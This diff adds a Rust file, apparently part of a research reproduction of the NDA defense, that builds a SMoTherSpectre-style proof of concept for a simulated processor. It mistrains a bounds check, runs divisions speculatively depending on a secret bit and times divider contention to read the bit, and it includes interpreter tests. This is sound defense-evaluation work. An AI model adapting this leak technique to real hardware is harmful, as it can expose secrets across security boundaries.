@@ -1,0 +1,154 @@
+//! SMoTherSpectre-style attack via execution-port contention (paper §1,
+//! §3, Table 1 — Bhattacharyya et al.).
+//!
+//! The transmitter is *divider occupancy*: the divider is not pipelined,
+//! and an in-flight division keeps draining even after the squash. The
+//! wrong path executes a chain of divisions iff the secret bit is set; the
+//! receiver times its own division right after the squash — it stalls on
+//! the still-busy divider when the bit was 1.
+//!
+//! Unlike the cache PoCs this needs a *short* speculation window (the
+//! occupancy signal only lasts tens of cycles), so the bounds check feeds
+//! from a warm load through a dependent multiply chain instead of a
+//! flushed line.
+//!
+//! Like the FPU channel, port contention defeats every cache-centric
+//! defense; NDA blocks it because the secret never reaches the bit test.
+
+use crate::layout::*;
+use crate::util;
+use nda_isa::{Asm, Program, Reg};
+
+/// Training+attack rounds per bit (7 training + 1 malicious).
+const ROUNDS_PER_BIT: u64 = 8;
+/// Wrong-path division chain length (occupancy = 12 cycles each).
+const DIV_CHAIN: usize = 4;
+
+/// Build the attack program for `secret`.
+pub fn program(secret: u8) -> Program {
+    let mut asm = Asm::new();
+    let main = asm.new_label();
+    let victim = asm.new_label();
+    asm.jmp(main);
+
+    // victim(x in X2, bit index in X11).
+    asm.bind(victim);
+    let vout = asm.new_label();
+    let do_div = asm.new_label();
+    let after = asm.new_label();
+    // A ~20-cycle speculation window: warm load + dependent multiplies.
+    asm.li(Reg::X3, ARRAY_SIZE_ADDR);
+    asm.ld8(Reg::X4, Reg::X3, 0); // warm: 4 cycles
+    asm.mul(Reg::X4, Reg::X4, Reg::X4); // 16 -> 256
+    asm.mul(Reg::X4, Reg::X4, Reg::X4); // 65536
+    asm.mul(Reg::X4, Reg::X4, Reg::X4);
+    asm.mul(Reg::X4, Reg::X4, Reg::X4);
+    asm.mul(Reg::X4, Reg::X4, Reg::X4);
+    asm.andi(Reg::X4, Reg::X4, 0xFF); // back to 0 ^ ...
+    asm.alui(nda_isa::AluOp::Or, Reg::X4, Reg::X4, ARRAY_LEN); // = ARRAY_LEN
+    asm.bgeu(Reg::X2, Reg::X4, vout); // bounds check, ~22 cycles unresolved
+    asm.li(Reg::X5, ARRAY_BASE);
+    asm.add(Reg::X5, Reg::X5, Reg::X2);
+    asm.ld1(Reg::X6, Reg::X5, 0); // access secret byte (warm)
+    asm.alu(nda_isa::AluOp::Shr, Reg::X6, Reg::X6, Reg::X11);
+    asm.andi(Reg::X6, Reg::X6, 1);
+    asm.bne(Reg::X6, Reg::X0, do_div); // trained not-taken by the trainings
+    asm.jmp(after);
+    asm.bind(do_div);
+    asm.li(Reg::X7, 0xFFFF_FFFF);
+    for _ in 0..DIV_CHAIN {
+        // Serial, non-pipelined: occupies the divider ~12 cycles each.
+        asm.alui(nda_isa::AluOp::Div, Reg::X7, Reg::X7, 3);
+    }
+    asm.bind(after);
+    asm.nop();
+    asm.bind(vout);
+    asm.ret();
+
+    // --- main -----------------------------------------------------------
+    asm.bind(main);
+    asm.li(Reg::X2, SECRET_ADDR);
+    asm.ld1(Reg::X3, Reg::X2, 0); // warm the secret line
+    asm.li(Reg::X3, ARRAY_SIZE_ADDR);
+    asm.ld8(Reg::X4, Reg::X3, 0); // warm the bounds line
+    asm.fence();
+
+    let bit_loop = asm.new_label();
+    let round_loop = asm.new_label();
+    asm.li(Reg::X12, 0); // bit index
+    asm.bind(bit_loop);
+    asm.mov(Reg::X11, Reg::X12);
+
+    // Mis-train and transmit with aligned history; the malicious call is
+    // the last round, so the divider is still draining when we measure.
+    asm.li(Reg::X9, 0);
+    asm.bind(round_loop);
+    asm.fence();
+    util::emit_select_input(&mut asm, Reg::X9, MAL_INDEX, Reg::X2);
+    asm.call(victim);
+    asm.addi(Reg::X9, Reg::X9, 1);
+    asm.li(Reg::X26, ROUNDS_PER_BIT);
+    asm.bltu(Reg::X9, Reg::X26, round_loop);
+
+    // Receive. The fence keeps the *wrong-path copy* of the timed division
+    // (fetched down the predicted loop exit) from issuing inside the
+    // window and occupying the divider itself — it may only issue once
+    // everything older retired, a couple of cycles after the squash,
+    // while the gadget's division is still draining.
+    asm.fence();
+    asm.rdcycle(Reg::X14);
+    asm.li(Reg::X7, 999);
+    asm.alui(nda_isa::AluOp::Div, Reg::X8, Reg::X7, 7);
+    asm.rdcycle(Reg::X15);
+    asm.sub(Reg::X16, Reg::X15, Reg::X14);
+    asm.shli(Reg::X17, Reg::X12, 3);
+    asm.li(Reg::X18, RESULTS_BASE);
+    asm.add(Reg::X17, Reg::X17, Reg::X18);
+    asm.st8(Reg::X16, Reg::X17, 0);
+    asm.fence();
+
+    asm.addi(Reg::X12, Reg::X12, 1);
+    asm.li(Reg::X26, 8);
+    asm.bltu(Reg::X12, Reg::X26, bit_loop);
+    asm.halt();
+
+    let mut p = asm.assemble().expect("smother assembles");
+    p.data.push(nda_isa::DataInit {
+        addr: ARRAY_SIZE_ADDR,
+        bytes: ARRAY_LEN.to_le_bytes().to_vec(),
+    });
+    p.data.push(nda_isa::DataInit { addr: ARRAY_BASE, bytes: vec![0u8; ARRAY_LEN as usize] });
+    p.data.push(nda_isa::DataInit { addr: SECRET_ADDR, bytes: vec![secret] });
+    p
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use nda_isa::Interp;
+
+    #[test]
+    fn architecturally_clean() {
+        let p = program(0b0101_0101);
+        let mut i = Interp::new(&p);
+        let exit = i.run(20_000_000).expect("halts");
+        assert!(exit.halted);
+        assert_eq!(exit.faults, 0);
+        for b in 0..8u64 {
+            assert!(i.mem.read(RESULTS_BASE + 8 * b, 8) > 0, "bit {b} never measured");
+        }
+    }
+
+    #[test]
+    fn window_bound_is_architecturally_array_len() {
+        // The multiply-chain obfuscation of the bound must still evaluate
+        // to ARRAY_LEN, or training calls would fault or mis-steer.
+        let p = program(1);
+        let mut i = Interp::new(&p);
+        i.run(20_000_000).unwrap();
+        // If the bound were wrong the in-bounds loads would have read the
+        // secret architecturally; X6 is clobbered later, so just assert
+        // termination without faults (above) and bounded behaviour here.
+        assert!(i.halted());
+    }
+}
